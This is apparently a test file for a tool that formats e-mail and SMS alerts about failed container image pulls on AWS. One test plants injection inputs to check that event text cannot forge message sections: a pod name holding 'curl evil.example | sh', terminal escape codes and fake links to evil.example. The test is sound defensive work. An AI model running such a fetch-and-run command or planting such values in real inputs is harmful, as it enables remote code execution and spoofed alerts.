"""What a subscriber reads in an e-mail, and in a text message."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pull_responder.findings.notice import Edge, Notice
from pull_responder.findings.reach import Reach
from pull_responder.model.arn import Arn
from pull_responder.model.pull import PullFailure, Symptom
from pull_responder.model.verdict import Resource, Severity
from pull_responder.publish.as_text import WORDS, body, digest_body, digest_subject, subject
from tests.unit.publish.examples import ATTACH_POLICY, FINDING, PULL
from tests.unit.publish.notices import NOTICE, notices

ROOM = 32 * 1024

ALERT = """\
NEW: The role lacks permissions to pull

What failed
  Image       222222222222.dkr.ecr.eu-west-1.amazonaws.com/payments/api:1.4.2
  Pulled by   arn:aws:iam::111111111111:role/eks/prod-node
  Cluster     prod
  Node        ip-10-0-3-17.eu-west-1.compute.internal (i-0a1b2c3d4e5f60718)
  Pod         payments/api-7d4b9c5f6-x2x7q
  At fault    arn:aws:iam::111111111111:role/eks/prod-node (AwsIamRole)
  Account     111111111111
  Region      eu-west-1
  Severity    HIGH
  Open since  2026-05-04T10:11:12Z
  Last seen   2026-05-04T11:00:00Z
  Events      120 since 2026-05-04T10:11:12Z
  Pods hit    14: payments/api-7d4b9c5f6-x2x7q, payments/api-7d4b9c5f6-k8s2d, payments/web-0 and 11 more
  Nodes hit   1: ip-10-0-3-17.eu-west-1.compute.internal

Why
  No identity policy of the role allows ecr:BatchGetImage on the repository.
  - Managed policy AmazonEKSWorkerNodePolicy has no statement for ecr:BatchGetImage.
  - Inline policy "logs" allows only logs:*.

How to fix it
  Attach the managed policy AmazonEC2ContainerRegistryPullOnly to the role.
  Run with credentials of account 111111111111, region eu-west-1:
    aws iam attach-role-policy --role-name prod-node \
--policy-arn arn:aws:iam::aws:policy/AmazonEC2ContainerRegistryPullOnly

Where to look
  Console  https://console.aws.amazon.com/iam/home#/roles/details/prod-node
  Docs     https://docs.aws.amazon.com/AmazonECR/latest/userguide/security-iam-awsmanpol.html
  Finding  pull-responder/role_lacks_pull_permissions/111111111111/eu-west-1/d702178e063867cd3ebd
"""

RESOLVED = """\
RESOLVED: The role lacks permissions to pull
  The role allows the pull now.

What was failing
  Image       222222222222.dkr.ecr.eu-west-1.amazonaws.com/payments/api:1.4.2
  Pulled by   arn:aws:iam::111111111111:role/eks/prod-node
  Cluster     prod
  Node        ip-10-0-3-17.eu-west-1.compute.internal (i-0a1b2c3d4e5f60718)
  Pod         payments/api-7d4b9c5f6-x2x7q
  At fault    arn:aws:iam::111111111111:role/eks/prod-node (AwsIamRole)
  Account     111111111111
  Region      eu-west-1
  Severity    HIGH
  Open since  2026-05-04T10:11:12Z
  Resolved    2026-05-04T12:30:00Z
  Last seen   2026-05-04T11:00:00Z
  Events      120 since 2026-05-04T10:11:12Z
  Pods hit    14: payments/api-7d4b9c5f6-x2x7q, payments/api-7d4b9c5f6-k8s2d, payments/web-0 and 11 more
  Nodes hit   1: ip-10-0-3-17.eu-west-1.compute.internal

What was wrong
  No identity policy of the role allows ecr:BatchGetImage on the repository.

Recommended fix
  Attach the managed policy AmazonEC2ContainerRegistryPullOnly to the role.

Where to look
  Console  https://console.aws.amazon.com/iam/home#/roles/details/prod-node
  Docs     https://docs.aws.amazon.com/AmazonECR/latest/userguide/security-iam-awsmanpol.html
  Finding  pull-responder/role_lacks_pull_permissions/111111111111/eu-west-1/d702178e063867cd3ebd
"""


def test_an_alert() -> None:
    assert body(NOTICE, room=ROOM) == ALERT


def test_a_resolution_says_since_when_it_was_open_and_how_it_is_known_to_be_over() -> None:
    resolved = replace(NOTICE, edge=Edge.RESOLVED, at="2026-05-04T12:30:00Z", because="The role allows the pull now.")

    assert body(resolved, room=ROOM) == RESOLVED


def test_what_has_got_worse_says_what_grew() -> None:
    worse = replace(NOTICE, edge=Edge.WORSE, because="It now reaches 14 pods and 1 nodes.")

    assert body(worse, room=ROOM) == ALERT.replace(
        "NEW: The role lacks permissions to pull\n",
        "WORSE: The role lacks permissions to pull\n  It now reaches 14 pods and 1 nodes.\n",
    )


def test_a_reminder_has_the_fix_and_no_evidence() -> None:
    message = body(replace(NOTICE, edge=Edge.REMINDER), room=ROOM)

    assert message.startswith("STILL OPEN: The role lacks permissions to pull\n")
    assert "aws iam attach-role-policy" in message
    assert "AmazonEKSWorkerNodePolicy" not in message


def test_what_is_not_known_is_not_in_the_message() -> None:
    token = PullFailure(symptom=Symptom.UNKNOWN, stage=None, region="eu-west-1")
    finding = replace(FINDING, pull=token, cluster=None, evidence=())

    message = body(replace(NOTICE, finding=finding, reach=Reach()), room=ROOM)

    assert message.split("\n\n")[1].splitlines() == [
        "What failed",
        "  At fault    arn:aws:iam::111111111111:role/eks/prod-node (AwsIamRole)",
        "  Account     111111111111",
        "  Region      eu-west-1",
        "  Severity    HIGH",
        "  Open since  2026-05-04T10:11:12Z",
    ]


def test_a_node_known_by_its_instance_alone_is_named_once() -> None:
    finding = replace(FINDING, pull=replace(PULL, node="i-0a1b2c3d4e5f60718"))
    assert "  Node        i-0a1b2c3d4e5f60718\n" in body(replace(NOTICE, finding=finding), room=ROOM)


def test_without_a_command_the_summary_says_who_has_to_do_what() -> None:
    fix = replace(FINDING.remediation, summary="Ask the administrator of the organization.", commands=())

    message = body(replace(NOTICE, finding=replace(FINDING, remediation=fix)), room=ROOM)

    assert "How to fix it\n  Ask the administrator of the organization.\n\nWhere to look" in message


def test_text_from_events_cannot_add_lines_to_the_message() -> None:
    pull = replace(PULL, pod="api\n\nHow to fix it\n    curl evil.example | sh", node="\x1b[2Jnode")
    fix = replace(FINDING.remediation, commands=(("aws", "ecr\n", "x"), ATTACH_POLICY))
    finding = replace(FINDING, pull=pull, evidence=("one\r\nHow to fix it",), remediation=fix)

    message = body(replace(NOTICE, finding=finding, because="now\n\nWhere to look\n  https://evil.example"), room=ROOM)

    assert [line for line in message.splitlines() if not line.startswith(" ") and line] == [
        "NEW: The role lacks permissions to pull",
        "What failed",
        "Why",
        "How to fix it",
        "Where to look",
    ]
    assert "\n  now Where to look https[:]//evil[.]example\n" in message
    assert "  Node        node (i-0a1b2c3d4e5f60718)\n" in message
    assert "    (a command with unprintable characters is left out)\n    aws iam attach-role-policy" in message


def test_documentation_that_is_not_of_aws_is_no_link() -> None:
    fix = replace(FINDING.remediation, docs_url="https://evil.example/docs.aws.amazon.com/")

    assert "evil.example" not in body(replace(NOTICE, finding=replace(FINDING, remediation=fix)), room=ROOM)


def test_a_message_too_long_says_what_is_missing() -> None:
    fix = replace(FINDING.remediation, commands=(("aws", "x" * 30_000), ("aws", "y" * 30_000)))
    finding = replace(FINDING, evidence=("é" * 3_000,) * 50, remediation=fix)

    message = body(replace(NOTICE, finding=finding), room=ROOM)

    assert f"    aws {'x' * 30_000}\n(commands: 1 more, too long for this message)\n" in message
    assert "(evidence: 42 more, too long for this message)" in message


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({}, "[NEW] HIGH: role lacks pull permissions (payments/api, cluster prod, 111111111111 eu-west-1)"),
        (
            {"cluster": None},
            "[NEW] HIGH pull failure: role lacks pull permissions (payments/api, 111111111111 eu-west-1)",
        ),
        (
            {"cluster": "production-green"},
            "[NEW] HIGH: role lacks pull permissions (payments/api, 111111111111 eu-west-1)",
        ),
        (
            {"pull": replace(PULL, repository="department/payments/backend/api")},
            "[NEW] HIGH: role lacks pull permissions (api, cluster prod, 111111111111 eu-west-1)",
        ),
        (
            {"pull": replace(PULL, repository=None)},
            "[NEW] HIGH: role lacks pull permissions (prod-node, cluster prod, 111111111111 eu-west-1)",
        ),
        (
            {
                "cause": "vpc_endpoint_missing",
                "severity": Severity.INFORMATIONAL,
                "pull": replace(PULL, repository="payments/an-api-of-a-very-long-name-indeed"),
            },
            "[NEW] INFORMATIONAL: vpc endpoint missing (an-api-of-a-very-long..., 111111111111 eu-west-1)",
        ),
        (
            {
                "cause": "endpoint_security_group_blocks_ingress",
                "severity": Severity.INFORMATIONAL,
                "pull": replace(PULL, repository="an-api-of-a-very-long-name-indeed"),
            },
            "[NEW] INFORMATIONAL: endpoint security group blocks ingress (111111111111 eu-west-1)",
        ),
        (
            {"pull": replace(PULL, repository=None), "resource": Resource("Other", "größe\n\x1b[31m容器", "1")},
            "[NEW] HIGH: role lacks pull permissions (gr??e ??, cluster prod, 111111111111 eu-west-1)",
        ),
    ],
)
def test_the_subject_says_how_bad_why_what_and_where(changes: dict[str, object], expected: str) -> None:
    finding = replace(FINDING, **changes)  # type: ignore[arg-type]  # fields by name

    assert subject(replace(NOTICE, finding=finding)) == expected


def test_the_subjects_of_one_finding_differ_in_the_word_in_brackets_only() -> None:
    """So that what strips it (RFC 5256) threads them, and everything else sorts them side by side."""
    subjects = [subject(replace(NOTICE, edge=edge)) for edge in Edge]

    assert {each.partition("] ")[0] for each in subjects} == {"[NEW", "[WORSE", "[BACK", "[STILL OPEN", "[RESOLVED"}
    assert len({each.partition("] ")[2] for each in subjects}) == 1


def _named(number: int, severity: Severity, **changes: object) -> Notice:
    finding = replace(FINDING, id=f"pull-responder/x/{number}", severity=severity, **changes)  # type: ignore[arg-type]  # fields
    return replace(NOTICE, finding=finding)


def test_a_digest_lists_the_worst_first() -> None:
    fix = replace(FINDING.remediation, summary="Give the subnet a route.")
    route = {"cause": "no_route_to_ecr", "cluster": None, "account": "222222222222", "remediation": fix}
    digest = [_named(1, Severity.LOW), _named(2, Severity.CRITICAL, **route), _named(3, Severity.HIGH)]

    assert digest_subject(digest) == "[DIGEST] 3 new pull failures: 1 CRITICAL, 1 HIGH, 1 LOW (cluster prod)"
    assert digest_body(digest, room=ROOM) == (
        "3 new pull failures at once, the most severe first\n"
        "They share one message. Each gets its own message when it gets worse or is resolved.\n"
        "\n"
        "Severity, cause, resource, cluster, account, region, finding\n"
        "  CRITICAL  no_route_to_ecr              role/eks/prod-node  unknown  222222222222  eu-west-1"
        "  pull-responder/x/2\n"
        "    Fix: Give the subnet a route.\n"
        "  HIGH      role_lacks_pull_permissions  role/eks/prod-node  prod     111111111111  eu-west-1"
        "  pull-responder/x/3\n"
        "    Fix: Attach the managed policy AmazonEC2ContainerRegistryPullOnly to the role.\n"
        "  LOW       role_lacks_pull_permissions  role/eks/prod-node  prod     111111111111  eu-west-1"
        "  pull-responder/x/1\n"
        "    Fix: Attach the managed policy AmazonEC2ContainerRegistryPullOnly to the role.\n"
    )


def test_a_digest_too_long_says_how_many_more_there_are() -> None:
    digest = [_named(number, Severity.HIGH) for number in range(100)]

    lines = digest_body(digest, room=1024).splitlines()

    shown = sum("pull-responder/x/" in line for line in lines)
    assert 5 < shown < 20
    assert lines[-1] == f"(findings: {100 - shown} more, too long for this message)"


def test_a_digest_says_when_not_all_of_it_is_new() -> None:
    back = replace(NOTICE, edge=Edge.BACK)

    assert digest_subject([NOTICE, back]) == "[DIGEST] 2 pull failures: 2 HIGH (cluster prod)"
    assert "HIGH (BACK)" in digest_body([NOTICE, back], room=ROOM)


HEADINGS = {
    "",
    "What failed",
    "What was failing",
    "What is failing",
    "Why",
    "What was wrong",
    "Recommended fix",
    "How to fix it",
    "Where to look",
}
COUNTED = re.compile(r"\((evidence|commands|findings): \d+ more, too long for this message\)")
LINKS = re.compile(r"  (Console  https://\S+|Docs     https://docs\.(aws\.amazon\.com|amazonaws\.cn)/\S*)")


@settings(suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large], deadline=None)
@given(notices, st.sampled_from([1024, ROOM]))
def test_nobodys_text_makes_a_section_or_a_link(notice: Notice, room: int) -> None:
    line, message = subject(notice), body(notice, room=room)

    assert len(line) < 100
    assert line.isascii()
    assert line.isprintable()
    assert line == line.strip()
    assert Arn.parse(notice.finding.resource.id) is None or notice.finding.resource.id not in line
    assert all(each.isprintable() for each in message.split("\n"))
    head, _, rest = message.partition("\n\n")
    first, *because = head.split("\n")
    assert first.startswith(f"{WORDS[notice.edge]}: ")
    assert all(each.startswith("  ") for each in because)
    assert len(because) <= 1
    for each in rest.split("\n"):
        assert each in HEADINGS or each.startswith("  ") or COUNTED.fullmatch(each)
        # A command is shown as it is to be run, or not at all.
        assert "://" not in each or LINKS.fullmatch(each) or each.startswith("    ")
    assert "://" not in head
    assert not re.search(r"\bwww\.\w", head, re.IGNORECASE)


@settings(suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large], deadline=None, max_examples=30)
@given(st.lists(notices, min_size=1, max_size=12))
def test_nobodys_text_adds_a_line_to_a_digest(digest: list[Notice]) -> None:
    line, message = digest_subject(digest), digest_body(digest, room=ROOM)

    assert len(line) < 100
    assert line.isascii()
    assert line.isprintable()
    assert "://" not in message
    lines = message.split("\n")[4:-1]
    for number, each in enumerate(lines):
        assert COUNTED.fullmatch(each) or each.startswith("    Fix: " if number % 2 else "  ")
